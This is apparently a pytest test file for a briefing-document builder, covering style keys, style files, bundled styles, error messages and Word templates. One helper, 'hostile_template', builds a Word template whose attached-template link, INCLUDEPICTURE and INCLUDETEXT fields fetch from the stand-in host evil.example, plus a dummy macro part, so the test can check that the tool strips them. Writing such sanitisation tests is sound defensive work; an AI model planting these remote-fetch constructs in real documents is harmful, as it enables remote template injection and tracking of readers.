"""House styles: the style key, style files, bundled styles, and their errors."""

from __future__ import annotations

import re
import shutil
import textwrap
import zipfile
from pathlib import Path

import docx
import pytest
from PIL import Image as PILImage

from briefing import SpecError, loads
from briefing.cli import main
from briefing.reading.loader import Options
from briefing.reading.style_files import bundled_names, merge, read_style_file, template_layer
from briefing.style import BUNDLED_FONTS, Style, TableLook

BODY = "sections:\n  - heading: H\n"


def spec(style: str, base_dir: Path | None = None, base: dict | None = None) -> Style:
    text = "title: T\n" + textwrap.dedent(style) + BODY
    return loads(text, "spec.yaml", base_dir, Options(base_style=base or {})).style


def errors(style: str, base_dir: Path | None = None) -> list[str]:
    with pytest.raises(SpecError) as caught:
        spec(style, base_dir)
    return [str(p) for p in caught.value.problems]


def test_default_style():
    assert loads("title: T\n" + BODY).style == Style()


def test_style_key_sets_every_value(tmp_path):
    PILImage.new("RGB", (200, 100)).save(tmp_path / "logo.png")
    shutil.copy(BUNDLED_FONTS["DejaVu Serif"].regular, tmp_path / "house.ttf")
    style = spec(
        """\
        style:
          fonts: {body: house.ttf, heading: DejaVu Sans}
          font_size: 11
          accent: navy
          page: {size: Letter, orientation: landscape, margins_cm: 2.5}
          logo: logo.png
          cover: page
          toc: true
          table: {header_fill: "#000", header_text: white, zebra: "#F5F5F5", borders: none}
          marking: {colour: "#D4351C", banner: true}
        """,
        tmp_path,
    )
    assert style.body_font is not None and style.body_font.name == "DejaVu Serif"
    assert style.body_font.regular == tmp_path / "house.ttf"
    assert style.heading_font == BUNDLED_FONTS["DejaVu Sans"]
    assert (style.font_size, style.accent, style.page_size, style.landscape, style.margin_cm) == (
        11.0,
        "000080",
        "Letter",
        True,
        2.5,
    )
    assert style.page_cm == (27.94, 21.59)
    assert (style.logo, style.logo_size_px, style.cover, style.toc) == (tmp_path / "logo.png", (200, 100), "page", True)
    assert style.table == TableLook(header_fill="000000", header_text="FFFFFF", zebra="F5F5F5", borders=None)
    assert (style.marking_colour, style.marking_banner) == ("D4351C", True)


def test_spec_style_wins_over_a_style_file(tmp_path):
    base = tmp_path / "house.yaml"
    base.write_text("accent: '#111111'\ntoc: true\ntable: {zebra: '#EEEEEE', header_fill: '#222222'}\n")
    style = spec("style:\n  accent: '#999999'\n  table: {zebra: none}\n", tmp_path, read_style_file(base))
    assert style.accent == "999999"
    assert style.toc is True
    assert style.table.zebra is None and style.table.header_fill == "222222"
    assert style.name == "house"


def test_bundled_styles_load_and_differ():
    assert bundled_names() == ["newsroom", "official", "plain"]
    styles = {name: merge(read_style_file(name)) for name in bundled_names()}
    assert styles["official"].marking_banner and styles["official"].toc and styles["official"].cover == "page"
    assert styles["newsroom"].heading_font == BUNDLED_FONTS["DejaVu Serif"]
    assert len({s.accent for s in styles.values()}) == 3


@pytest.mark.parametrize(
    ("style", "expected"),
    [
        ("style: {acent: red}\n", ["spec.yaml:2:9: unknown key 'acent' in the style (did you mean 'accent'?)"]),
        (
            "style: {accent: bluish}\n",
            ["spec.yaml:2:17: 'bluish' is not a colour (use #RRGGBB or a name such as navy)"],
        ),
        (
            "style: {table: {zebra: '#12345'}}\n",
            ["spec.yaml:2:24: '#12345' is not a colour (use #RRGGBB or a name such as navy)"],
        ),
        (
            "style: {cover: pages}\n",
            ["spec.yaml:2:16: expected one of block, page, none, got 'pages' (did you mean 'page'?)"],
        ),
        ("style: {page: {size: A5}}\n", ["spec.yaml:2:22: expected one of A4, Letter, got 'A5'"]),
        ("style: {toc: maybe}\n", ["spec.yaml:2:14: expected true or false, got a string"]),
        ("style: {fonts: {body: missing.ttf}}\n", ["spec.yaml:2:23: font file 'missing.ttf' not found"]),
        ("style: {fonts: {body: {bold: b.ttf}}}\n", ["spec.yaml:2:23: missing required key 'regular' in a font"]),
        ("style: {docx_template: missing.docx}\n", ["spec.yaml:2:24: template file 'missing.docx' not found"]),
        (
            "style: {logo: ../logo.png}\n",
            ["spec.yaml:2:15: image path '../logo.png' leads outside the spec's folder (--allow-path DIR lets it)"],
        ),
    ],
)
def test_style_errors(style, expected, tmp_path):
    assert errors(style, tmp_path) == expected


def test_a_file_that_is_not_a_font_or_not_a_template(tmp_path):
    (tmp_path / "fake.ttf").write_text("not a font")
    (tmp_path / "fake.docx").write_text("not a document")
    assert errors("style: {fonts: {heading: fake.ttf}, docx_template: fake.docx}\n", tmp_path) == [
        "spec.yaml:2:26: 'fake.ttf' is not a TrueType font file",
        "spec.yaml:2:52: cannot open 'fake.docx' as a Word document (it is not a zip package)",
    ]


def test_style_file_errors_point_into_the_style_file(tmp_path):
    bad = tmp_path / "house.yaml"
    bad.write_text("accent: red\nmarking: {colour: pinkish}\n")
    with pytest.raises(SpecError) as caught:
        read_style_file(bad)
    assert [str(p) for p in caught.value.problems] == [
        f"{bad}:2:19: 'pinkish' is not a colour (use #RRGGBB or a name such as navy)"
    ]
    with pytest.raises(SpecError, match="no style file or bundled style"):
        read_style_file(tmp_path / "nope.yaml")
    with pytest.raises(SpecError, match=r"nope.docx:1:1: cannot open 'nope.docx' as a Word document"):
        template_layer(tmp_path / "nope.docx")


def test_bad_style_on_the_command_line_writes_nothing(tmp_path, capsys):
    good = tmp_path / "brief.yaml"
    good.write_text("title: T\n" + BODY)
    bad = tmp_path / "house.yaml"
    bad.write_text("accent: pinkish\n")
    out = tmp_path / "out"
    assert main(["build", str(good), "--style", str(bad), "--out", str(out)]) == 2
    assert capsys.readouterr().err == f"{bad}:1:9: 'pinkish' is not a colour (use #RRGGBB or a name such as navy)\n"
    assert not out.exists()
    assert main(["build", str(good), "--docx-template", str(bad), "--out", str(out)]) == 2
    assert "cannot open 'house.yaml' as a Word document" in capsys.readouterr().err
    assert not out.exists()


def test_template_style_reaches_the_word_output(tmp_path):
    template = docx.Document()
    template.styles["Normal"].font.name = "Courier New"
    template.sections[0].page_width = docx.shared.Cm(21.59)
    template.sections[0].header.paragraphs[0].text = "HOUSE HEADER"
    template.add_paragraph("template body text that must not survive")
    path = tmp_path / "house.docx"
    template.save(path)
    good = tmp_path / "brief.yaml"
    good.write_text("title: T\nclassification: SECRET\n" + BODY)
    out = tmp_path / "out"
    assert main(["build", str(good), "--docx-template", str(path), "--format", "docx", "--out", str(out)]) == 0
    result = docx.Document(str(out / "brief.docx"))
    assert result.styles["Normal"].font.name == "Courier New"
    assert round(result.sections[0].page_width.cm, 2) == 21.59
    assert [p.text for p in result.sections[0].header.paragraphs] == ["HOUSE HEADER", "SECRET"]
    assert "template body text that must not survive" not in [p.text for p in result.paragraphs]
    assert [p.text for p in result.paragraphs][:2] == ["T", "H"]


def hostile_template(path: Path) -> None:
    """A Word template that would fetch from elsewhere and run code in every pack built on it."""
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.opc.packuri import PackURI
    from docx.opc.part import Part
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    template = docx.Document()
    assert template.settings is not None  # makes the settings part if the document has none
    settings = template.part.part_related_by(RT.SETTINGS)
    attached_type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    rel_id = settings.relate_to(r"\\evil.example\share\x.dotm", attached_type, is_external=True)
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), rel_id)
    settings.element.append(attached)
    header = template.sections[0].header.paragraphs[0]
    header.add_run("HOUSE HEADER")
    runs = []
    for kind, text in (("begin", None), (None, ' INCLUDEPICTURE "http://evil.example/p.png" \\d '), ("end", None)):
        run = OxmlElement("w:r")
        if kind:
            mark = OxmlElement("w:fldChar")
            mark.set(qn("w:fldCharType"), kind)
            run.append(mark)
        else:
            instr = OxmlElement("w:instrText")
            instr.text = text
            run.append(instr)
        runs.append(run)
    for run in runs:
        header._p.append(run)
    simple = OxmlElement("w:fldSimple")
    simple.set(qn("w:instr"), r'INCLUDETEXT "\\evil.example\share\x.docx"')
    header._p.append(simple)
    macros = Part(
        PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"\0" * 64, template.part.package
    )
    template.part.relate_to(macros, "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
    template.save(path)


def test_a_word_template_brings_its_look_and_nothing_that_fetches_or_runs(tmp_path, capsys):
    path = tmp_path / "house.docx"
    hostile_template(path)
    spec = tmp_path / "brief.yaml"
    spec.write_text("title: T\n" + BODY)
    out = tmp_path / "out"
    assert main(["build", str(spec), "--docx-template", str(path), "--format", "docx", "--out", str(out)]) == 0
    warnings = capsys.readouterr().err
    for dropped in (
        "an attached template ('\\\\evil.example\\share\\x.dotm')",
        "macros",
        "a field (INCLUDEPICTURE) in word/header1.xml",
        "a field (INCLUDETEXT) in word/header1.xml",
    ):
        assert f"docx: dropped from the Word template: {dropped}" in warnings
    with zipfile.ZipFile(out / "brief.docx") as package:
        names = package.namelist()
        xml = {name: package.read(name).decode("utf-8") for name in names if name.endswith((".xml", ".rels"))}
    assert not any("vbaProject" in name for name in names)
    external = [
        (name, m.group(0))
        for name, text in xml.items()
        if name.endswith(".rels")
        for m in re.finditer(r"<Relationship [^>]*TargetMode=\"External\"[^>]*>", text)
    ]
    assert all("relationships/hyperlink" in rel for _, rel in external), external
    assert not any(word in text for text in xml.values() for word in ("INCLUDEPICTURE", "INCLUDETEXT", "evil.example"))
    assert not any("attachedTemplate" in text for text in xml.values())
    assert "HOUSE HEADER" in [p.text for p in docx.Document(str(out / "brief.docx")).sections[0].header.paragraphs]


def test_a_colour_name_reads_the_same_after_pil_has_been_asked_for_it():
    """PIL keeps a colour name it has looked up as a tuple: a long preview or batch still reads "red"."""
    from PIL import ImageColor

    from briefing.reading.reader import colour_hex

    assert colour_hex("Red") == "FF0000"
    ImageColor.getrgb("red")
    ImageColor.getrgb("maroon")
    assert colour_hex("red") == "FF0000" and colour_hex(" maroon ") == "800000"
    assert colour_hex("#abc") == "AABBCC" and colour_hex("rouge") is None
